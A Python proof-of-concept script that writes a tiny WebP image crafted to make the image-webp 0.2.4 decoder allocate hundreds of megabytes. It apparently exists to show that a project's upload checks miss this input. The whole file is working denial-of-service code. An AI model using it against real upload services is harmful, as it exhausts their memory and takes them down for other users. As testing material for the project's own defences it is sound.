"""Writes a 1x1 lossless WebP whose entropy image names Huffman group GROUPS - 1 (default 65536
groups), so that image-webp 0.2.4 reads every group, five codes each, each code with a
1024-entry table, whether or not a pixel uses it. Not caught by the upload checks' frame walk
(the frame really is 1x1); see README.md, "Images from users".

    python3 scripts/webp_huffman_groups.py OUT.webp [GROUPS]

8192 groups: a 476 KB file, 170 MB allocated by the decoder; 65536 groups: 3.8 MB.
"""
import struct, sys

class Bits:
    def __init__(self): self.out = bytearray(); self.acc = 0; self.n = 0
    def put(self, value, count):  # LSB first
        for i in range(count):
            self.acc |= ((value >> i) & 1) << self.n; self.n += 1
            if self.n == 8: self.out.append(self.acc); self.acc = 0; self.n = 0
    def code(self, code, length):  # Huffman code, MSB first
        for i in reversed(range(length)): self.put((code >> i) & 1, 1)
    def bytes(self):
        return bytes(self.out) + (bytes([self.acc]) if self.n else b"")

groups = int(sys.argv[2]) if len(sys.argv) > 2 else 65536
b = Bits()
b.put(0x2F, 8); b.put(0, 14); b.put(0, 14); b.put(0, 1); b.put(0, 3)   # 1x1
b.put(0, 1)            # no transforms
b.put(0, 1)            # no colour cache
b.put(1, 1)            # meta Huffman codes
b.put(0, 3)            # huffman bits 2 -> entropy image 1x1
b.put(0, 1)            # entropy image: no colour cache
code = (groups - 1)
for symbol in [code & 0xFF, code >> 8, 0, 0, 0]:   # green, red, blue, alpha, distance
    b.put(1, 1); b.put(0, 1); b.put(1, 1); b.put(symbol, 8)   # simple code, one 8-bit symbol
# Code-length code: symbols 1..6 length 3, 7..10 length 4 (canonical codes below).
order = [17, 18, 0, 1, 2, 3, 4, 5, 16, 6, 7, 8, 9, 10]
clen = {s: 3 for s in range(1, 7)}; clen.update({s: 4 for s in range(7, 11)})
canon = {}; nxt = 0
for s in range(1, 7): canon[s] = nxt; nxt += 1
nxt <<= 1
for s in range(7, 11): canon[s] = nxt; nxt += 1
for _ in range(groups):
    for _ in range(5):
        b.put(0, 1)                     # normal code
        b.put(len(order) - 4, 4)
        for s in order: b.put(clen.get(s, 0), 3)
        b.put(1, 1); b.put(1, 3); b.put(9, 4)   # max_symbol = 11
        for length in [1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 10]:
            b.code(canon[length], clen[length])
data = b.bytes() + bytes(64)
chunk = b"VP8L" + struct.pack("<I", len(data)) + data + (b"\0" if len(data) % 2 else b"")
body = b"WEBP" + chunk
open(sys.argv[1], "wb").write(b"RIFF" + struct.pack("<I", len(body)) + body)
print(len(body) + 8, "bytes")
